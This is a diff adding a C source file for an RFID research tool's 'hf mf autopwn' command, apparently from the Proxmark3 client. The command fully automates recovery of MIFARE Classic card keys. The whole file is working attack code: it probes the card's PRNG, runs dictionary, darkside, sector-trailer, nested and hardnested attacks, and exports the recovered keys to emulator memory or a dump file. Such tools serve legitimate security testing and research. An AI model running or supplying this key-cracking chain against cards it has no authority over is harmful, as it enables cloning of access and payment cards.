@@ -0,0 +1,481 @@
+//-----------------------------------------------------------------------------
+// This code is licensed to you under the terms of the GNU GPL, version 2 or,
+// at your option, any later version. See the LICENSE.txt file for the text of
+// the license.
+//-----------------------------------------------------------------------------
+// hf mf autopwn command. Recover all keys of a card with the cheapest attacks.
+//
+// The card is probed once (UID, size, PRNG type). Then the attacks are chained
+// from cheap to expensive:
+//   - dictionary: default keys and an optional .dic file, all sectors at once
+//   - darkside:   only if no key is known yet and the PRNG is weak
+//   - trailer:    read the sector trailer with a known key A. Key B is often readable
+//   - nested:     weak PRNG
+//   - hardnested: hardened PRNG
+// Each key found is checked against all remaining sectors before the next
+// (more expensive) attack is started.
+//-----------------------------------------------------------------------------
+
+#include "cmdhfmfautopwn.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <inttypes.h>
+#include <string.h>
+#include "proxmark3.h"
+#include "comms.h"
+#include "cmdmain.h"
+#include "ui.h"
+#include "util.h"
+#include "util_posix.h"
+#include "mifare.h"
+#include "mifarehost.h"
+#include "mifaredefault.h"
+#include "keydict.h"
+#include "cmdhfmf.h"
+#include "cmdhfmfhard.h"
+
+#define AUTOPWN_MAX_SECTORS				40
+#define AUTOPWN_NESTED_RETRY			10			// how often we try mfnested() until we give up
+
+typedef enum {
+	PRNG_WEAK,
+	PRNG_HARD,
+	PRNG_STATIC,
+} prng_type_t;
+
+static const char *prng_type_names[] = {"weak", "hardened", "static nonce"};
+
+typedef enum {
+	PHASE_PROBE,
+	PHASE_DICTIONARY,
+	PHASE_DARKSIDE,
+	PHASE_TRAILER,
+	PHASE_NESTED,
+	PHASE_HARDNESTED,
+	NUM_PHASES
+} autopwn_phase_t;
+
+static const char *phase_names[NUM_PHASES] = {"probe", "dictionary", "darkside", "trailer read", "nested", "hardnested"};
+
+// what we know about the card
+typedef struct {
+	iso14a_card_select_t card;
+	uint8_t num_sectors;
+	prng_type_t prng;
+	sector_t e_sector[AUTOPWN_MAX_SECTORS];
+	uint64_t phase_time[NUM_PHASES];
+	uint16_t phase_keys[NUM_PHASES];
+	uint8_t timeout14a;
+	keydict_t *dict;
+} autopwn_t;
+
+
+static int probe_card(iso14a_card_select_t *card, uint32_t *nt)
+{
+	// select the card and get a nonce in one exchange
+	UsbCommand resp, respA;
+	uint8_t cmd[] = {0x60, 0x00}; // MIFARE_AUTH_KEYA
+	uint32_t flags = ISO14A_CONNECT | ISO14A_RAW | ISO14A_APPEND_CRC | ISO14A_NO_RATS;
+
+	UsbCommand c = {CMD_READER_ISO_14443a, {flags, sizeof(cmd), 0}};
+	memcpy(c.d.asBytes, cmd, sizeof(cmd));
+
+	clearCommandBuffer();
+	SendCommand(&c);
+	if (!WaitForResponseTimeout(CMD_ACK, &resp, 2000) || resp.arg[0] == 0) {
+		return 1;
+	}
+	memcpy(card, resp.d.asBytes, sizeof(iso14a_card_select_t));
+
+	if (!WaitForResponseTimeout(CMD_ACK, &respA, 5000) || respA.arg[0] != 4) {
+		return 1;
+	}
+	*nt = bytes_to_num(respA.d.asBytes, 4);
+	return 0;
+}
+
+
+static uint8_t sectors_from_sak(uint8_t sak)
+{
+	switch (sak) {
+		case 0x09: return 5;		// MINI
+		case 0x10:
+		case 0x11: return 32;		// 2K (Plus in SL2)
+		case 0x18:
+		case 0x38:
+		case 0x98: return 40;		// 4K
+		default:   return 16;		// 1K
+	}
+}
+
+
+static uint16_t num_missing_keys(autopwn_t *ap)
+{
+	uint16_t missing = 0;
+	for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+		missing += !ap->e_sector[sectorNo].foundKey[0] + !ap->e_sector[sectorNo].foundKey[1];
+	}
+	return missing;
+}
+
+
+static bool get_known_key(autopwn_t *ap, uint8_t *blockNo, uint8_t *keyType, uint8_t *key)
+{
+	for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+		for (uint8_t j = 0; j < 2; j++) {
+			if (ap->e_sector[sectorNo].foundKey[j]) {
+				*blockNo = FirstBlockOfSector(sectorNo);
+				*keyType = j;
+				num_to_bytes(ap->e_sector[sectorNo].Key[j], 6, key);
+				return true;
+			}
+		}
+	}
+	return false;
+}
+
+
+static void set_key(autopwn_t *ap, autopwn_phase_t phase, uint8_t sectorNo, uint8_t keyType, uint64_t key64)
+{
+	ap->e_sector[sectorNo].foundKey[keyType] = true;
+	ap->e_sector[sectorNo].Key[keyType] = key64;
+	ap->phase_keys[phase]++;
+	if (ap->dict != NULL) {
+		keydict_add_hit(ap->dict, key64);
+	}
+}
+
+
+static void try_key_everywhere(autopwn_t *ap, autopwn_phase_t phase, uint64_t key64)
+{
+	// keys are often used for more than one sector. Check a found key for all missing keys.
+	sector_t e_sector[AUTOPWN_MAX_SECTORS];
+	uint8_t keyBlock[6];
+
+	memset(e_sector, 0, sizeof(e_sector));
+	num_to_bytes(key64, 6, keyBlock);
+	if (mfCheckKeysSec(ap->num_sectors, 2, ap->timeout14a, true, 1, keyBlock, e_sector) != 0) {
+		return;
+	}
+	for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+		for (uint8_t j = 0; j < 2; j++) {
+			if (e_sector[sectorNo].foundKey[j] && !ap->e_sector[sectorNo].foundKey[j]) {
+				set_key(ap, phase, sectorNo, j, key64);
+			}
+		}
+	}
+}
+
+
+static void phase_dictionary(autopwn_t *ap, const char *dict_filename)
+{
+	uint32_t keycnt = MifareDefaultKeysSize;
+	uint8_t *keyBlock = NULL;
+
+	if (dict_filename != NULL) {
+		ap->dict = malloc(sizeof(keydict_t));
+		if (ap->dict == NULL) {
+			printf("Out of memory error in phase_dictionary(). Aborting...\n");
+			exit(4);
+		}
+		if (!keydict_load(dict_filename, 6, ap->dict)) {
+			PrintAndLog("File: %s: not found or locked. Using the default keys only.", dict_filename);
+			free(ap->dict);
+			ap->dict = NULL;
+		} else {
+			keycnt += ap->dict->count;
+		}
+	}
+
+	keyBlock = malloc(keycnt * 6);
+	if (keyBlock == NULL) {
+		printf("Out of memory error in phase_dictionary(). Aborting...\n");
+		exit(4);
+	}
+	if (ap->dict != NULL) {
+		keydict_get_keys(ap->dict, keyBlock);		// most successful keys first
+	}
+	for (uint32_t i = 0; i < MifareDefaultKeysSize; i++) {
+		num_to_bytes(MifareDefaultKeys[i], 6, keyBlock + (keycnt - MifareDefaultKeysSize + i) * 6);
+	}
+	keycnt = keydict_dedup(keyBlock, keycnt, 6);
+
+	PrintAndLog("Testing %" PRIu32 " keys on %d sectors...", keycnt, ap->num_sectors);
+	sector_t e_sector[AUTOPWN_MAX_SECTORS];
+	memset(e_sector, 0, sizeof(e_sector));
+	mfCheckKeysSecStream(ap->num_sectors, 2, ap->timeout14a, true, keycnt, keyBlock, e_sector);
+	PrintAndLog("");
+	for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+		for (uint8_t j = 0; j < 2; j++) {
+			if (e_sector[sectorNo].foundKey[j]) {
+				set_key(ap, PHASE_DICTIONARY, sectorNo, j, e_sector[sectorNo].Key[j]);
+			}
+		}
+	}
+
+	free(keyBlock);
+}
+
+
+static int phase_darkside(autopwn_t *ap)
+{
+	uint64_t key64 = 0;
+	int isOK = mfDarkside(&key64);
+	switch (isOK) {
+		case -1 : PrintAndLog("Button pressed. Aborted."); return 2;
+		case -2 : PrintAndLog("Card is not vulnerable to Darkside attack (doesn't send NACK on authentication requests)."); return 1;
+		case -3 : PrintAndLog("Card is not vulnerable to Darkside attack (its random number generator is not predictable)."); return 1;
+		case -4 : PrintAndLog("Card is not vulnerable to Darkside attack (unexpected random number generator behaviour)."); return 1;
+		case -5 : PrintAndLog("Aborted via keyboard."); return 2;
+		default : break;
+	}
+	PrintAndLog("Found valid key:%012" PRIx64, key64);
+	set_key(ap, PHASE_DARKSIDE, 0, 0, key64);		// darkside attacks key A of block 0
+	try_key_everywhere(ap, PHASE_DARKSIDE, key64);
+	return 0;
+}
+
+
+static void phase_trailer(autopwn_t *ap)
+{
+	// key B is readable with key A if the access conditions allow it (e.g. transport configuration)
+	for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+		if (!ap->e_sector[sectorNo].foundKey[0] || ap->e_sector[sectorNo].foundKey[1]) continue;
+		UsbCommand c = {CMD_MIFARE_READBL, {FirstBlockOfSector(sectorNo) + NumBlocksPerSector(sectorNo) - 1, 0, 0}};
+		num_to_bytes(ap->e_sector[sectorNo].Key[0], 6, c.d.asBytes);
+		SendCommand(&c);
+		UsbCommand resp;
+		if (!WaitForResponseTimeout(CMD_ACK, &resp, 1500) || (resp.arg[0] & 0xff) == 0) continue;
+		uint64_t key64;
+		if (mfCheckKeys(FirstBlockOfSector(sectorNo), 1, true, 1, resp.d.asBytes + 10, &key64) == 0) {
+			PrintAndLog("Sector %2d: key B read from the sector trailer: %012" PRIx64, sectorNo, key64);
+			set_key(ap, PHASE_TRAILER, sectorNo, 1, key64);
+			try_key_everywhere(ap, PHASE_TRAILER, key64);
+		}
+	}
+}
+
+
+static int phase_nested(autopwn_t *ap)
+{
+	uint8_t blockNo = 0, keyType = 0, key[6] = {0}, keyBlock[6];
+	bool calibrate = true;
+
+	get_known_key(ap, &blockNo, &keyType, key);
+	PrintAndLog("--nested. block no:%3d, key type:%c, key:%s", blockNo, keyType?'B':'A', sprint_hex(key, 6));
+	for (uint16_t i = 0; i < AUTOPWN_NESTED_RETRY && num_missing_keys(ap) > 0; i++) {
+		for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+			for (uint8_t trgKeyType = 0; trgKeyType < 2; trgKeyType++) {
+				if (ap->e_sector[sectorNo].foundKey[trgKeyType]) continue;
+				int16_t isOK = mfnested(blockNo, keyType, key, FirstBlockOfSector(sectorNo), trgKeyType, keyBlock, calibrate);
+				switch (isOK) {
+					case 0 : calibrate = false; break;
+					case -1 : PrintAndLog("Error: No response from Proxmark.\n"); return 2;
+					case -2 : PrintAndLog("Button pressed. Aborted.\n"); return 2;
+					case -3 : PrintAndLog("Tag isn't vulnerable to Nested Attack (random numbers are not predictable).\n"); return 1;
+					default : PrintAndLog("Unknown Error.\n"); return 2;
+				}
+				uint64_t key64 = bytes_to_num(keyBlock, 6);
+				if (key64) {
+					PrintAndLog("Sector %2d: found valid key %c:%012" PRIx64, sectorNo, trgKeyType?'B':'A', key64);
+					set_key(ap, PHASE_NESTED, sectorNo, trgKeyType, key64);
+					try_key_everywhere(ap, PHASE_NESTED, key64);
+				}
+			}
+		}
+	}
+	return 0;
+}
+
+
+static int phase_hardnested(autopwn_t *ap, bool slow)
+{
+	uint8_t blockNo = 0, keyType = 0, key[6] = {0};
+	hardnested_target_t targets[2 * AUTOPWN_MAX_SECTORS];
+	uint16_t num_targets = 0;
+
+	get_known_key(ap, &blockNo, &keyType, key);
+	for (uint8_t sectorNo = 0; sectorNo < ap->num_sectors; sectorNo++) {
+		for (uint8_t j = 0; j < 2; j++) {
+			if (ap->e_sector[sectorNo].foundKey[j]) continue;
+			targets[num_targets].blockNo = FirstBlockOfSector(sectorNo);
+			targets[num_targets].keyType = j;
+			targets[num_targets].found = false;
+			targets[num_targets].key = 0;
+			num_targets++;
+		}
+	}
+
+	PrintAndLog("--hardnested. block no:%3d, key type:%c, key:%s, targets:%d", blockNo, keyType?'B':'A', sprint_hex(key, 6), num_targets);
+	int isOK = mfnestedhard_batch(blockNo, keyType, key, targets, num_targets, slow);
+
+	// the batch already checks a found key against the remaining targets
+	for (uint16_t i = 0; i < num_targets; i++) {
+		if (targets[i].found) {
+			uint8_t sectorNo = targets[i].blockNo < 32*4 ? targets[i].blockNo / 4 : 32 + (targets[i].blockNo - 32*4) / 16;
+			set_key(ap, PHASE_HARDNESTED, sectorNo, targets[i].keyType, targets[i].key);
+		}
+	}
+
+	switch (isOK) {
+		case 0 : return 0;
+		case 1 : PrintAndLog("Error: No response from Proxmark.\n"); return 2;
+		case 2 : PrintAndLog("Button pressed. Aborted.\n"); return 2;
+		default : return 1;
+	}
+}
+
+
+static void print_result(autopwn_t *ap)
+{
+	PrintAndLog("|---|----------------|---|----------------|---|");
+	PrintAndLog("|sec|key A           |res|key B           |res|");
+	PrintAndLog("|---|----------------|---|----------------|---|");
+	for (uint8_t i = 0; i < ap->num_sectors; i++) {
+		PrintAndLog("|%03d|  %012" PRIx64 "  | %d |  %012" PRIx64 "  | %d |", i,
+			ap->e_sector[i].Key[0], ap->e_sector[i].foundKey[0], ap->e_sector[i].Key[1], ap->e_sector[i].foundKey[1]);
+	}
+	PrintAndLog("|---|----------------|---|----------------|---|");
+
+	uint64_t total_time = 0;
+	PrintAndLog("\n|phase          |    time (s)|keys|");
+	PrintAndLog("|---------------|------------|----|");
+	for (autopwn_phase_t phase = 0; phase < NUM_PHASES; phase++) {
+		if (ap->phase_time[phase] == 0 && ap->phase_keys[phase] == 0) continue;
+		PrintAndLog("|%-15s|%12.1f|%4d|", phase_names[phase], (float)ap->phase_time[phase]/1000.0, ap->phase_keys[phase]);
+		total_time += ap->phase_time[phase];
+	}
+	PrintAndLog("|---------------|------------|----|");
+	PrintAndLog("|%-15s|%12.1f|%4d|", "total", (float)total_time/1000.0, 2 * ap->num_sectors - num_missing_keys(ap));
+}
+
+
+static void transfer_keys(autopwn_t *ap)
+{
+	uint8_t keyBlock[16];
+	for (uint8_t i = 0; i < ap->num_sectors; i++) {
+		mfEmlGetMem(keyBlock, FirstBlockOfSector(i) + NumBlocksPerSector(i) - 1, 1);
+		if (ap->e_sector[i].foundKey[0])
+			num_to_bytes(ap->e_sector[i].Key[0], 6, keyBlock);
+		if (ap->e_sector[i].foundKey[1])
+			num_to_bytes(ap->e_sector[i].Key[1], 6, &keyBlock[10]);
+		mfEmlSetMem(keyBlock, FirstBlockOfSector(i) + NumBlocksPerSector(i) - 1, 1);
+	}
+	PrintAndLog("Keys transferred to emulator memory.");
+}
+
+
+static int write_dumpkeys(autopwn_t *ap)
+{
+	FILE *fkeys;
+	uint8_t tempkey[6];
+	if ((fkeys = fopen("dumpkeys.bin","wb")) == NULL) {
+		PrintAndLog("Could not create file dumpkeys.bin");
+		return 1;
+	}
+	PrintAndLog("Printing keys to binary file dumpkeys.bin...");
+	for (uint8_t keyType = 0; keyType < 2; keyType++) {
+		for (uint8_t i = 0; i < ap->num_sectors; i++) {
+			num_to_bytes(ap->e_sector[i].foundKey[keyType] ? ap->e_sector[i].Key[keyType] : 0xffffffffffff, 6, tempkey);
+			fwrite(tempkey, 1, 6, fkeys);
+		}
+	}
+	fclose(fkeys);
+	return 0;
+}
+
+
+int mfautopwn(uint8_t num_sectors, const char *dict_filename, uint8_t timeout14a, bool slow, bool transferToEml, bool createDumpFile)
+{
+	autopwn_t ap;
+	uint64_t phase_start;
+	uint32_t nt[2];
+	int isOK = 0;
+
+	memset(&ap, 0, sizeof(ap));
+	ap.timeout14a = timeout14a;
+
+	// probe the card. Two nonces tell weak, hardened and static nonce PRNGs apart.
+	phase_start = msclock();
+	if (probe_card(&ap.card, &nt[0]) || probe_card(&ap.card, &nt[1])) {
+		PrintAndLog("Can't select card or get a nonce.");
+		return 1;
+	}
+	if (nt[0] == nt[1]) {
+		ap.prng = PRNG_STATIC;
+	} else if (validate_prng_nonce(nt[0]) && validate_prng_nonce(nt[1])) {
+		ap.prng = PRNG_WEAK;
+	} else {
+		ap.prng = PRNG_HARD;
+	}
+	ap.num_sectors = num_sectors ? num_sectors : sectors_from_sak(ap.card.sak);
+	ap.phase_time[PHASE_PROBE] = msclock() - phase_start;
+	PrintAndLog("UID: %s  ATQA: %02x %02x  SAK: %02x  sectors: %d  PRNG: %s",
+		sprint_hex(ap.card.uid, ap.card.uidlen), ap.card.atqa[1], ap.card.atqa[0], ap.card.sak, ap.num_sectors, prng_type_names[ap.prng]);
+
+	// dictionary
+	PrintAndLog("\n--dictionary");
+	phase_start = msclock();
+	phase_dictionary(&ap, dict_filename);
+	ap.phase_time[PHASE_DICTIONARY] = msclock() - phase_start;
+
+	uint8_t blockNo = 0, keyType = 0, key[6] = {0};
+	if (!get_known_key(&ap, &blockNo, &keyType, key)) {
+		if (ap.prng != PRNG_WEAK) {
+			PrintAndLog("No known key and the PRNG is %s. Darkside, nested and hardnested need a weak PRNG or a known key.", prng_type_names[ap.prng]);
+			isOK = 1;
+		} else {
+			PrintAndLog("\n--darkside");
+			phase_start = msclock();
+			isOK = phase_darkside(&ap);
+			ap.phase_time[PHASE_DARKSIDE] = msclock() - phase_start;
+		}
+	}
+
+	if (isOK == 0 && num_missing_keys(&ap) > 0) {
+		PrintAndLog("\n--trailer read");
+		phase_start = msclock();
+		phase_trailer(&ap);
+		ap.phase_time[PHASE_TRAILER] = msclock() - phase_start;
+	}
+
+	if (isOK == 0 && num_missing_keys(&ap) > 0) {
+		switch (ap.prng) {
+			case PRNG_WEAK:
+				PrintAndLog("\n--%d keys missing. Weak PRNG: nested", num_missing_keys(&ap));
+				phase_start = msclock();
+				isOK = phase_nested(&ap);
+				ap.phase_time[PHASE_NESTED] = msclock() - phase_start;
+				break;
+			case PRNG_HARD:
+				PrintAndLog("\n--%d keys missing. Hardened PRNG: hardnested", num_missing_keys(&ap));
+				phase_start = msclock();
+				isOK = phase_hardnested(&ap, slow);
+				ap.phase_time[PHASE_HARDNESTED] = msclock() - phase_start;
+				break;
+			case PRNG_STATIC:
+				PrintAndLog("\n--%d keys missing. Static nonce: no attack available, add the keys to a dictionary.", num_missing_keys(&ap));
+				break;
+		}
+	}
+
+	PrintAndLog("");
+	print_result(&ap);
+
+	if (transferToEml) {
+		transfer_keys(&ap);
+	}
+	if (createDumpFile) {
+		write_dumpkeys(&ap);
+	}
+	if (ap.dict != NULL) {
+		keydict_close(ap.dict);		// store the hit statistics
+		free(ap.dict);
+	}
+
+	if (isOK == 2) {
+		return 2;
+	}
+	return num_missing_keys(&ap) > 0 ? 3 : 0;
+}